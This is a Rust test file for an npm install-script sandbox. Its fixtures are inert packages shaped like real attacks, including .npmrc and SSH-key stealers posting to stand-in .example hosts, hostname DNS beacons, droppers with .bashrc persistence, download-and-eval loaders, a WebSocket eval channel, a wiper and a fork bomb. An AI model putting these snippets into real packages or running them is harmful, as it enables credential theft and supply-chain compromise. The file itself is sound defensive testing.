//! The sandbox against real bubblewrap and strace (installed by `scripts/test`):
//! inert packages shaped like real attacks, run and recorded.

use std::io::Read as _;
use std::net::TcpListener;
use std::time::Duration;

use airlock_policy::{Code, Severity};
use airlock_sandbox::{Availability, Config, Observation, Report, probe, run};
use airlock_test::PackageBuilder;

fn config() -> Config {
    let config = Config {
        time_limit: Duration::from_secs(20),
        ..Config::default()
    };
    assert!(
        matches!(probe(&config), Availability::Ready { .. }),
        "the sandbox must be available where the tests run: {:?}",
        probe(&config)
    );
    config
}

fn sandboxed(builder: PackageBuilder) -> Report {
    run(&config(), &builder.build().tarball).expect("the sandbox runs")
}

fn strongest(report: &Report, code: Code) -> Option<Severity> {
    report
        .findings
        .iter()
        .filter(|finding| finding.code == code)
        .map(|finding| finding.severity)
        .max()
}

/// The issue's test: a script that resolves a name, reads the canary `.npmrc` and
/// POSTs it is recorded with the name, the file and the destination, and nothing
/// leaves the sandbox (a listener on this machine's loopback hears nothing).
#[test]
fn a_token_stealer_is_recorded_and_contained() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        r#"const os = require("os"), fs = require("fs"), dns = require("dns"), http = require("http");
const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
dns.lookup("collector.exfil.example", () => {{}});
const local = http.request({{ host: "127.0.0.1", port: {port}, method: "POST" }}, () => {{}});
local.on("error", () => {{}}); local.end(token);
const out = http.request({{ host: "collector.exfil.example", method: "POST", path: "/t" }}, () => {{}});
out.on("error", () => {{}}); out.end(token);
setTimeout(() => {{}}, 300);
"#
    );
    let report = sandboxed(
        PackageBuilder::new("token-stealer-shape", "1.0.0")
            .script("preinstall", "node collect.js")
            .file("collect.js", script),
    );
    assert!(
        report.observations.contains(&Observation::Resolved {
            name: "collector.exfil.example".into()
        }),
        "{report:#?}"
    );
    assert!(
        report.observations.iter().any(|observation| matches!(
            observation,
            Observation::ReadSecret { path, .. } if path.ends_with("/.npmrc")
        )),
        "{report:#?}"
    );
    let read = report
        .findings
        .iter()
        .find(|finding| finding.code == Code::RuntimeCredentialRead)
        .expect("the read is a finding");
    assert!(read.message.contains(".npmrc"), "{}", read.message);
    assert!(
        read.message.contains("collector.exfil.example"),
        "{}",
        read.message
    );
    assert!(read.severity >= Severity::High);
    // The sink took the post: what was sent is read, and it holds the token.
    assert!(
        report.observations.iter().any(|observation| matches!(
            observation,
            Observation::Sent { host: Some(host), secrets, .. }
                if host == "collector.exfil.example" && secrets.contains(&"a canary token")
        )),
        "{report:#?}"
    );
    assert_eq!(
        strongest(&report, Code::RuntimeNetwork),
        Some(Severity::Critical)
    );
    assert_eq!(
        report.scripts,
        [("preinstall".to_owned(), "node collect.js".to_owned())]
    );
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        listener.accept().is_err(),
        "a connection reached this machine's loopback from the sandbox"
    );
}

/// A DNS beacon carrying the machine's name (the commonest dependency-confusion
/// probe) and a shell script reading SSH keys: blocked.
#[test]
fn beacons_and_key_theft_block() {
    let report = sandboxed(
        PackageBuilder::new("beacon-shape", "99.0.0")
            .script("postinstall", "node -e \"require('dns').lookup(require('os').hostname() + '.x.oast.example', () => {})\"; cat ~/.ssh/id_rsa > /dev/null; ls ~/.ssh"),
    );
    assert_eq!(
        strongest(&report, Code::RuntimeNetwork),
        Some(Severity::Critical),
        "{report:#?}"
    );
    assert_eq!(
        strongest(&report, Code::RuntimeCredentialRead),
        Some(Severity::Critical),
        "{report:#?}"
    );
}

/// A dropper: writes a file outside the package, makes it executable and runs it;
/// installs itself into the shell profile; erases its setup script.
#[test]
fn droppers_persistence_and_erased_traces_are_seen() {
    let report = sandboxed(
        PackageBuilder::new("dropper-shape", "1.0.0")
            .script("postinstall", "node setup.js")
            .file(
                "setup.js",
                r##"const fs = require("fs"), cp = require("child_process"), os = require("os");
fs.writeFileSync("/tmp/.payload", "#!/bin/sh\necho dropped\n", { mode: 0o755 });
cp.execFileSync("/tmp/.payload");
fs.appendFileSync(os.homedir() + "/.bashrc", "\n/tmp/.payload &\n");
fs.unlinkSync(__filename);
"##,
            ),
    );
    assert_eq!(
        strongest(&report, Code::RuntimeExec),
        Some(Severity::Critical),
        "{report:#?}"
    );
    assert_eq!(
        strongest(&report, Code::RuntimePersistence),
        Some(Severity::Critical),
        "{report:#?}"
    );
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.code == Code::RuntimeFileWrite
                && finding.message.contains("setup.js")),
        "{report:#?}"
    );
}

/// What ordinary installers do stays below a quarantine: run node, write into
/// their own directory and a cache, read npm's config.
#[test]
fn an_ordinary_installer_is_not_stopped() {
    let report = sandboxed(
        PackageBuilder::new("native-shape", "1.0.0")
            .script("install", "node install.js")
            .file(
                "install.js",
                r##"const fs = require("fs"), os = require("os"), path = require("path");
fs.mkdirSync(path.join(__dirname, "bin"), { recursive: true });
fs.writeFileSync(path.join(__dirname, "bin", "tool"), "#!/bin/sh\necho ok\n", { mode: 0o755 });
require("child_process").execFileSync(path.join(__dirname, "bin", "tool"));
fs.mkdirSync(path.join(os.homedir(), ".cache", "native-shape"), { recursive: true });
fs.writeFileSync(path.join(os.homedir(), ".cache", "native-shape", "v1"), "x");
try { fs.readFileSync(path.join(os.homedir(), ".npmrc")); } catch {}
console.log("installed");
"##,
            ),
    );
    assert_eq!(report.exit_code, Some(0), "{report:#?}");
    assert!(report.output.contains("installed"));
    assert!(
        report
            .findings
            .iter()
            .all(|finding| finding.severity <= Severity::Medium),
        "{report:#?}"
    );
}

/// A script that never ends is killed at the time limit, and says so.
#[test]
fn a_script_past_its_time_is_killed() {
    let config = Config {
        time_limit: Duration::from_secs(2),
        ..config()
    };
    let started = std::time::Instant::now();
    let report = run(
        &config,
        &PackageBuilder::new("sleeper-shape", "1.0.0")
            .script("preinstall", "node -e \"setInterval(() => {}, 1000)\"")
            .build()
            .tarball,
    )
    .unwrap();
    assert!(report.timed_out);
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.code == Code::AnalysisIncomplete)
    );
}

/// A package without install scripts is not run at all.
#[test]
fn packages_without_install_scripts_are_not_run() {
    let report = sandboxed(
        PackageBuilder::new("plain", "1.0.0")
            .script(
                "prepare",
                "node -e \"require('dns').lookup('x.example', () => {})\"",
            )
            .file("index.js", "module.exports = 1;\n"),
    );
    assert!(report.scripts.is_empty());
    assert!(report.observations.is_empty() && report.findings.is_empty());
    let _ = std::io::empty().read(&mut [0u8; 1]);
}

/// The shell shape of the beacon, with a lookup tool this system may not have (a
/// stand-in then runs in its place): seen running with the machine's name in its
/// arguments, and the lookup itself carries it.
#[test]
fn a_shell_beacon_is_seen_with_or_without_the_tool() {
    let report = sandboxed(
        PackageBuilder::new("shell-beacon-shape", "99.9.9")
            .script("preinstall", "nslookup `hostname`.beacon.example || true"),
    );
    assert_eq!(
        strongest(&report, Code::RuntimeExec),
        Some(Severity::Critical),
        "{report:#?}"
    );
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.message.contains("canaryhost-5d1e.beacon.example")),
        "{report:#?}"
    );
}

/// A second stage started detached, whose loader then deletes itself, and a wiper
/// aimed above the package: each is seen, and the run does not wait out its limit.
#[test]
fn detached_stages_self_erasing_loaders_and_wipers_are_seen() {
    let started = std::time::Instant::now();
    let report = sandboxed(
        PackageBuilder::new("stager-shape", "1.0.0")
            .script("postinstall", "node install.js; rm -rf ../../x-airlock-test || true")
            .file(
                "install.js",
                r#"const { spawn } = require("child_process"), path = require("path"), fs = require("fs");
const loader = path.join(__dirname, "loader.js");
spawn(process.execPath, [loader], { detached: true, stdio: "ignore" }).unref();
"#,
            )
            // The loader erases itself once it runs (a fixed delay in the
            // installer would race the loader's start on a busy machine).
            .file(
                "loader.js",
                "require(\"fs\").unlinkSync(__filename);\nsetInterval(() => {}, 1000);\n",
            ),
    );
    assert!(report.left_running, "{report:#?}");
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "ended soon after the scripts"
    );
    for rule in [
        "runtime-left-running",
        "runtime-erased-traces",
        "runtime-wipe",
    ] {
        assert!(
            report
                .findings
                .iter()
                .any(|finding| finding.rule.as_deref() == Some(rule)),
            "{rule} missing: {report:#?}"
        );
    }
}

/// A second stage that installs its own HTTP client first: the sandbox's npm makes
/// a stand-in for it (no registry is reachable), and what it posts is read.
#[test]
fn a_stage_that_installs_its_client_first_is_followed() {
    let report = sandboxed(
        PackageBuilder::new("two-stage-shape", "1.0.0")
            .script("preinstall", "npm install sync-request && node main.js")
            .file(
                "main.js",
                r#"const request = require("sync-request"), os = require("os");
request("POST", "http://stage.collect.example/in", { json: { host: os.hostname(), user: os.userInfo().username } });
"#,
            ),
    );
    assert!(
        report.findings.iter().any(|finding| finding.rule.as_deref()
            == Some("runtime-sent-canary")
            && finding.message.contains("stage.collect.example")),
        "{report:#?}"
    );
}

/// What the scripts run under: the seccomp filter loaded, no capabilities, no new
/// privileges, and (when the tests run as root) not root outside the sandbox.
#[test]
fn scripts_run_filtered_without_privileges() {
    let report = sandboxed(
        PackageBuilder::new("status-shape", "1.0.0")
            .script("postinstall", "grep -E '^(Seccomp|CapEff|CapBnd|NoNewPrivs):' /proc/self/status; cat /proc/self/uid_map; unshare -U true && echo made-a-namespace"),
    );
    let output = &report.output;
    for line in [
        "Seccomp:\t2",
        "CapEff:\t0000000000000000",
        "CapBnd:\t0000000000000000",
        "NoNewPrivs:\t1",
    ] {
        assert!(output.contains(line), "{line:?} missing from {output}");
    }
    assert!(!output.contains("made-a-namespace"), "{output}");
    let outside: Vec<&str> = output
        .lines()
        .find(|line| line.trim_start().starts_with("0 "))
        .expect("the uid map")
        .split_whitespace()
        .collect();
    if rustix::process::geteuid().is_root() {
        assert_eq!(outside[1], "65534", "{output}");
    }
}

/// A fork bomb runs into the process limit (the shell cannot fork past it), and
/// the run comes back with a report.
#[test]
fn a_fork_bomb_meets_the_process_limit() {
    // A low limit, so that the bomb reaches it quickly however busy the machine.
    let config = Config {
        max_processes: 64,
        ..config()
    };
    let bomb = PackageBuilder::new("fork-bomb-shape", "1.0.0").script(
        "preinstall",
        "i=0; while [ $i -lt 500 ]; do sleep 30 & i=$((i+1)); done; wait",
    );
    let report = run(&config, &bomb.build().tarball).expect("the sandbox runs");
    assert!(report.output.contains("Cannot fork"), "{}", report.output);
}

/// docs/codes.md lists the calls the seccomp filter refuses, as the filter does.
#[test]
fn the_documented_seccomp_table_is_the_filter() {
    let docs = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/codes.md"))
        .unwrap();
    assert!(
        docs.contains(&airlock_sandbox::seccomp::table()),
        "docs/codes.md must hold this table:\n{}",
        airlock_sandbox::seccomp::table()
    );
}

fn fired(report: &Report, rule: &str) -> Option<Severity> {
    report
        .findings
        .iter()
        .filter(|finding| finding.rule.as_deref() == Some(rule))
        .map(|finding| finding.severity)
        .max()
}

/// A loader that fetches JavaScript and runs it: the sink's answer is itself a
/// probe, so running it shows, whether evaluated at once or written and started.
#[test]
fn running_what_a_server_sent_blocks() {
    let evaluated = sandboxed(
        PackageBuilder::new("remote-eval-shape", "1.0.0")
            .script("preinstall", "node load.js")
            .file(
                "load.js",
                r#"require("https").get("https://updates.cdn-shape.example/check", (res) => {
  let body = ""; res.on("data", (c) => body += c); res.on("end", () => { try { eval(body); } catch (e) {} });
}).on("error", () => {});
"#,
            ),
    );
    assert_eq!(
        fired(&evaluated, "runtime-ran-download"),
        Some(Severity::Critical),
        "{evaluated:#?}"
    );
    let written = sandboxed(
        PackageBuilder::new("stage-two-shape", "1.0.0")
            .script("postinstall", "node fetch.js")
            .file(
                "fetch.js",
                r#"const fs = require("fs"), os = require("os"), cp = require("child_process");
fetch("http://stage.cdn-shape.example/next.js").then((r) => r.text()).then((code) => {
  const file = os.homedir() + "/.config/next.js";
  fs.mkdirSync(os.homedir() + "/.config", { recursive: true });
  fs.writeFileSync(file, "// stage two\n");
  cp.spawnSync(process.execPath, [file]);
}).catch(() => {});
"#,
            ),
    );
    assert_eq!(
        fired(&written, "runtime-dropped-and-ran"),
        Some(Severity::Critical),
        "{written:#?}"
    );
}

/// Commands this system cannot run still count by what the shell was asked to
/// run: a Windows program, a daemon manager; `sudo` in front of a download runs it.
#[test]
fn commands_the_shell_was_given_count() {
    let windows = sandboxed(
        PackageBuilder::new("windows-shape", "1.0.0")
            .script(
                "postinstall",
                "rundll32.exe shell32.dll, Control_RunDLL lib/loader.js",
            )
            .file("lib/loader.js", "// not a DLL\n"),
    );
    assert_eq!(
        fired(&windows, "runtime-windows-command"),
        Some(Severity::High),
        "{windows:#?}"
    );
    let daemon = sandboxed(
        PackageBuilder::new("daemon-shape", "1.0.0")
            .script("postinstall", "forever start agent.js")
            .file("agent.js", "setInterval(() => {}, 1000);\n"),
    );
    assert_eq!(
        fired(&daemon, "runtime-daemon"),
        Some(Severity::High),
        "{daemon:#?}"
    );
    let sudo = sandboxed(PackageBuilder::new("sudo-shape", "1.0.0").script(
        "preinstall",
        "sudo wget http://dl.cdn-shape.example/x -O ./.x && chmod +x .x && ./.x",
    ));
    assert!(fired(&sudo, "runtime-network-tool").is_some(), "{sudo:#?}");
    let ordinary = sandboxed(
        PackageBuilder::new("ordinary-shape", "1.0.0")
            .script("install", "node -e \"console.log('built')\" && echo done"),
    );
    assert!(
        ordinary
            .findings
            .iter()
            .all(|finding| finding.severity < Severity::High),
        "{ordinary:#?}"
    );
}

/// A dependency that is not there (undeclared, or left out of the tarball) is a
/// stub too; a stub called with a URL fetches it and calls back what it is given,
/// so a collector that reports through one is seen.
#[test]
fn stubs_follow_urls_and_callbacks() {
    let report = sandboxed(
        PackageBuilder::new("stubbed-collector-shape", "1.0.0")
            .dependency("systeminfo-shape", "^1.0.0")
            .script("preinstall", "node collect.js")
            .file(
                "collect.js",
                r#"const os = require("os");
require("./helpers-not-shipped");
const requests = require("requests-undeclared-shape");
require("systeminfo-shape").getAllData((data) => {
  requests("https://collect.catcher-shape.example/?h=" + os.hostname(), () => {});
});
"#,
            ),
    );
    assert_eq!(
        strongest(&report, Code::RuntimeNetwork),
        Some(Severity::Critical),
        "{report:#?}"
    );
    assert!(
        report.observations.iter().any(|observation| matches!(
            observation,
            Observation::Resolved { name } if name == "collect.catcher-shape.example"
        )),
        "{report:#?}"
    );
}

/// A stealer that keeps its targets in a collection class from a dependency (a
/// stub here) still visits them, a promise library's pause waits, and its `all`
/// (another stub) waits for the reads the visits started before the script exits.
#[test]
fn stubbed_collections_are_visited() {
    let report = sandboxed(
        PackageBuilder::new("collection-shape", "1.0.0")
            .dependency("storage-shape", "^1.0.0")
            .dependency("bluebird", "^3.0.0")
            .script("postinstall", "node steal.js")
            .file(
                "steal.js",
                r#"const { List } = require("storage-shape");
const Bluebird = require("bluebird");
const fs = require("fs"), os = require("os"), path = require("path");
const targets = new List();
targets.addRange(List.fromArray([{ dir: ".config/discord" }, { dir: ".config/other" }]));
const found = new List();
const reads = targets.map(async (target) => {
  await Bluebird.delay(200);
  const file = path.join(os.homedir(), target.dir, "Local Storage/leveldb/000003.log");
  found.add({ text: await fs.promises.readFile(file, "utf8").catch(() => "") });
});
(async () => {
  if (targets.size !== 2) throw new Error("the collection lost its items");
  await Bluebird.all(reads);
  process.exit(0);
})();
"#,
            ),
    );
    assert_eq!(
        fired(&report, "runtime-credential-read"),
        Some(Severity::High),
        "{report:#?}"
    );
}

/// A remote-access channel through a WebSocket client the sandbox does not have:
/// the stub opens it as an upgrade request, which the sink sees.
#[test]
fn a_websocket_channel_is_seen() {
    let report = sandboxed(
        PackageBuilder::new("websocket-shape", "1.0.0")
            .dependency("ws", "^8.0.0")
            .script("postinstall", "node agent.js")
            .file(
                "agent.js",
                r#"const WebSocket = require("ws");
const socket = new WebSocket("wss://control.rat-shape.example/agent");
socket.on("message", (data) => eval(String(data)));
"#,
            ),
    );
    assert_eq!(
        fired(&report, "runtime-websocket"),
        Some(Severity::High),
        "{report:#?}"
    );
    assert!(
        report.observations.iter().any(|observation| matches!(
            observation,
            Observation::Sent { host: Some(host), websocket: true, .. }
                if host == "control.rat-shape.example"
        )),
        "{report:#?}"
    );
}

/// A native addon without an install script of its own is built as npm builds it:
/// `node-gyp rebuild`, with npm's node-gyp found.
#[test]
fn a_binding_gyp_is_built_as_npm_would() {
    let report = sandboxed(
        PackageBuilder::new("addon-shape", "1.0.0")
            .script("postinstall", "node -e \"console.log('after')\"")
            // gyp runs `<!(...)` while it configures: a build file can act too.
            .file(
                "binding.gyp",
                "{ \"variables\": { \"v\": \"<!(node -e \\\"require('dns').lookup('gyp.collector-shape.example', () => {})\\\")\" }, \"targets\": [] }\n",
            ),
    );
    assert_eq!(
        report.scripts,
        vec![
            ("install".to_owned(), "node-gyp rebuild".to_owned()),
            (
                "postinstall".to_owned(),
                "node -e \"console.log('after')\"".to_owned()
            ),
        ]
    );
    assert!(
        !report.output.contains("node-gyp: not found"),
        "{}",
        report.output
    );
    assert!(
        report.observations.iter().any(|observation| matches!(
            observation,
            Observation::Resolved { name } if name == "gyp.collector-shape.example"
        )),
        "{report:#?}"
    );
}

/// Most stealers act only on Windows. Told it runs there (a second run), such a
/// script is seen reading the Discord store and sending it; a build step that on
/// Windows runs a `.cmd` and PowerShell to unpack is not stopped.
#[test]
fn a_windows_only_stealer_is_seen_when_node_says_windows() {
    let stealer = sandboxed(
        PackageBuilder::new("windows-stealer-shape", "1.0.0")
            .script("postinstall", "node index.js")
            .file(
                "index.js",
                r#"const fs = require("fs"), path = require("path"), https = require("https");
if (process.platform !== "win32") process.exit(0);
const dir = path.join(process.env.APPDATA, "discord", "Local Storage", "leveldb");
const tokens = fs.readdirSync(dir).map((file) => fs.readFileSync(path.join(dir, file), "utf8")).join("\n");
const request = https.request({ host: "collector.stealer-shape.example", method: "POST", path: "/t" }, () => {});
request.on("error", () => {}); request.end(tokens);
"#,
            ),
    );
    assert_eq!(
        strongest(&stealer, Code::RuntimeNetwork),
        Some(Severity::Critical),
        "{stealer:#?}"
    );
    assert!(stealer.ran_as_windows);
    assert!(
        stealer
            .findings
            .iter()
            .any(|finding| finding.message.starts_with("told it runs on Windows")),
        "{stealer:#?}"
    );
    let builder = sandboxed(
        PackageBuilder::new("windows-builder-shape", "1.0.0")
            .script("install", "node install.js")
            .file(
                "install.js",
                r#"const { execSync } = require("child_process");
if (process.platform === "win32") {
  try { execSync("build.cmd --release"); } catch (e) {}
  try { execSync("powershell -NoProfile -Command Expand-Archive prebuilt.zip -DestinationPath bin"); } catch (e) {}
}
"#,
            ),
    );
    assert!(
        builder
            .findings
            .iter()
            .all(|finding| finding.severity < Severity::High),
        "{builder:#?}"
    );
}

/// Packages that are `fs` with another face are the real file system: what a
/// script reads and writes through fs-extra or promise-fs is what it does.
#[test]
fn fs_wrappers_reach_the_real_file_system() {
    let report = sandboxed(
        PackageBuilder::new("fs-extra-shape", "1.0.0")
            .dependency("fs-extra", "^11.0.0")
            .dependency("promise-fs", "^2.0.0")
            .script("postinstall", "node setup.js")
            .file(
                "setup.js",
                r#"const fse = require("fs-extra"), pfs = require("promise-fs"), os = require("os");
pfs.readFile(os.homedir() + "/.ssh/id_rsa", "utf8").then((key) => {
  fse.outputFileSync(os.homedir() + "/.config/autostart/agent.desktop", "[Desktop Entry]\n" + key.length);
});
"#,
            ),
    );
    assert!(
        report.observations.iter().any(|observation| matches!(
            observation,
            Observation::ReadSecret { path, .. } if path.ends_with("/.ssh/id_rsa")
        )),
        "{report:#?}"
    );
    assert_eq!(
        strongest(&report, Code::RuntimePersistence),
        Some(Severity::Critical),
        "{report:#?}"
    );
}

/// The record directory is writable from inside: a script that puts a FIFO where
/// the trace was and a link to an endless device where the sink's log was neither
/// hangs nor exhausts the reader, and is seen tampering.
#[test]
fn a_record_turned_into_a_trap_is_tampering() {
    let started = std::time::Instant::now();
    let report = sandboxed(PackageBuilder::new("record-trap-shape", "1.0.0").script(
        "postinstall",
        "rm -f /airlock/trace && mkfifo /airlock/trace; ln -sf /dev/zero /airlock/sink.jsonl",
    ));
    assert!(started.elapsed() < Duration::from_secs(15));
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.rule.as_deref() == Some("runtime-record-tampered")),
        "{report:#?}"
    );
}

/// A server started at install, through a web framework the sandbox stubs (the
/// stand-in's `listen` opens a real socket) or through Node's own `http`: open to
/// other machines it quarantines, on loopback alone it warns.
#[test]
fn a_server_started_at_install_is_seen() {
    let backdoor = sandboxed(
        PackageBuilder::new("eval-server-shape", "1.0.0")
            .dependency("express", "^4.0.0")
            .script("preinstall", "node index.js")
            .file(
                "index.js",
                r#"const app = require("express")();
app.get("/", (req, res) => res.send(String(eval(req.query.q))));
app.listen(8080, () => console.log("listening"));
"#,
            ),
    );
    assert!(
        backdoor
            .observations
            .iter()
            .any(|observation| matches!(observation, Observation::Listened { port: 8080, .. })),
        "{backdoor:#?}"
    );
    assert_eq!(
        fired(&backdoor, "runtime-listen"),
        Some(Severity::High),
        "{backdoor:#?}"
    );
    let local = sandboxed(
        PackageBuilder::new("local-server-shape", "1.0.0")
            .script("postinstall", "node serve.js")
            .file(
                "serve.js",
                r#"const server = require("http").createServer((req, res) => res.end("ok"));
server.listen(43117, "127.0.0.1", () => server.close());
"#,
            ),
    );
    assert_eq!(
        fired(&local, "runtime-listen-local"),
        Some(Severity::Medium),
        "{local:#?}"
    );
    assert_eq!(fired(&local, "runtime-listen"), None, "{local:#?}");
}

/// A first stage that saves what a server sends where no installer keeps a
/// download (a dot-directory of its own in the home directory) quarantines; the
/// same download into a cache does not.
#[test]
fn a_download_kept_outside_the_caches_is_a_stage() {
    let script = |dir: &str| {
        format!(
            r#"const fs = require("fs"), os = require("os"), path = require("path");
const dir = path.join(os.homedir(), "{dir}");
fs.mkdirSync(dir, {{ recursive: true }});
fetch("https://prices.stage-shape.example/api/price").then((r) => r.text())
  .then((body) => fs.writeFileSync(path.join(dir, "price"), body)).catch(() => {{}});
"#
        )
    };
    let staged = sandboxed(
        PackageBuilder::new("price-stage-shape", "1.0.0")
            .script("preinstall", "node lib/server.js")
            .file("lib/server.js", script(".price-shape")),
    );
    assert_eq!(
        fired(&staged, "runtime-download-kept"),
        Some(Severity::High),
        "{staged:#?}"
    );
    let cached = sandboxed(
        PackageBuilder::new("cached-download-shape", "1.0.0")
            .script("postinstall", "node lib/server.js")
            .file("lib/server.js", script(".cache/cached-download-shape")),
    );
    assert_eq!(fired(&cached, "runtime-download-kept"), None, "{cached:#?}");
}

/// Code that acts only when an environment variable is set runs once more with
/// the variables it looked for set: a key stealer behind `process.env.demo` is
/// seen, and says which variables the run set.
#[test]
fn a_stealer_behind_an_environment_variable_is_seen() {
    let report = sandboxed(
        PackageBuilder::new("env-gated-shape", "1.0.0")
            .script("postinstall", "node postinstall.js")
            .file(
                "postinstall.js",
                r#"const fs = require("fs"), os = require("os"), https = require("https");
// Written and deleted as scripts do: the watch on the environment lets both through.
process.env["NODE_TLS_REJECT_UNAUTHORIZED"] = 0;
process.env.GATED_SHAPE_SCRATCH = "x";
delete process.env.GATED_SHAPE_SCRATCH;
if (process.env.demo) {
  const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
  const request = https.request({ host: "collect.gated-shape.example", method: "POST", path: "/s" }, () => {});
  request.on("error", () => {}); request.end(key);
} else {
  console.log("Nothing to do");
}
"#,
            ),
    );
    assert_eq!(report.variables_set, ["demo"], "{report:#?}");
    assert_eq!(
        strongest(&report, Code::RuntimeCredentialRead),
        Some(Severity::Critical),
        "{report:#?}"
    );
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.message.starts_with("with demo set")),
        "{report:#?}"
    );
    // A script that reads nothing unset runs twice, as before.
    let plain = sandboxed(
        PackageBuilder::new("env-plain-shape", "1.0.0")
            .script("postinstall", "node -e \"console.log(process.env.HOME)\""),
    );
    assert!(plain.variables_set.is_empty(), "{plain:#?}");
}

/// Installers download; a script that posts a description of the machine, or
/// reports the install with the package's name in a query string, quarantines.
/// A download whose query names only the platform (as binary downloaders ask)
/// does not.
#[test]
fn install_reports_and_uploads_quarantine() {
    let posted = sandboxed(
        PackageBuilder::new("tracker-shape", "1.0.0")
            .script("preinstall", "node index.js preinstall")
            .file(
                "index.js",
                r#"const http = require("http");
const payload = { versions: process.versions, platform: process.platform, arch: process.arch, type: process.argv[2] };
const request = http.request({ hostname: "track.bait-shape.example", path: "/track", method: "POST" }, () => {});
request.on("error", () => {}); request.write(JSON.stringify(payload)); request.end();
"#,
            ),
    );
    assert_eq!(
        fired(&posted, "runtime-upload"),
        Some(Severity::High),
        "{posted:#?}"
    );
    let reported = sandboxed(
        PackageBuilder::new("typo-report-shape", "6.9.2")
            .script("preinstall", "node scripts/preinstall.js")
            .file(
                "scripts/preinstall.js",
                r#"const query = "p1=typo-report-shape&p2=report-shape&p4=" + encodeURIComponent(process.version + " " + process.platform);
require("http").get("http://stats.thesis-shape.example/?" + query, () => process.exit(0)).on("error", () => process.exit(0));
"#,
            ),
    );
    assert_eq!(
        fired(&reported, "runtime-install-report"),
        Some(Severity::High),
        "{reported:#?}"
    );
    let download = sandboxed(
        PackageBuilder::new("binary-download-shape", "13.6.0")
            .script("postinstall", "node install.js")
            .file(
                "install.js",
                r#"const url = "https://download.binary-shape.example/desktop/13.6.0?platform=" + process.platform + "&arch=" + process.arch;
fetch(url).then((r) => r.arrayBuffer()).catch(() => {});
"#,
            ),
    );
    assert!(
        download
            .findings
            .iter()
            .all(|finding| finding.severity <= Severity::Medium),
        "{download:#?}"
    );
}
